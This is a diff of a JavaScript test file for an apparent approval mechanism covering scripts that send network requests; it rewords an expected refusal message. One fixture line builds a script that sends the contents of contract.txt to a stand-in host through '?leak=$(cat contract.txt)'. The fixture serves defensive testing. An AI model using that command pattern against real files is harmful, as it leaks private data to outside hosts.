@@ -222,7 +222,7 @@ describe('a yes to a script that sends', () => {
     const answered = await asked.yes();
     expect(answered).toMatchObject({
       asked: null,
-      text: expect.stringContaining('cannot be asked for once this call has sent POST api.example'),
+      text: expect.stringContaining('cannot be requested after this call has sent POST api.example'),
     });
     expect([has('junk.txt'), has('contract.txt'), sent]).toEqual([false, true, ['POST https://api.example/send']]);
   });
@@ -252,7 +252,7 @@ describe('a yes to a script that sends', () => {
       put('run.sh', `${first}?leak=$(cat contract.txt)\n`);
       const again = await asked.yes();
       expect(sent).toEqual([`${first.includes('POST') ? 'POST' : 'GET'} https://new.example/`]);
-      if (again.asked === null) expect(again.text).toContain('cannot be asked for once this call has sent POST new.example');
+      if (again.asked === null) expect(again.text).toContain('cannot be requested after this call has sent POST new.example');
     }
   });
 
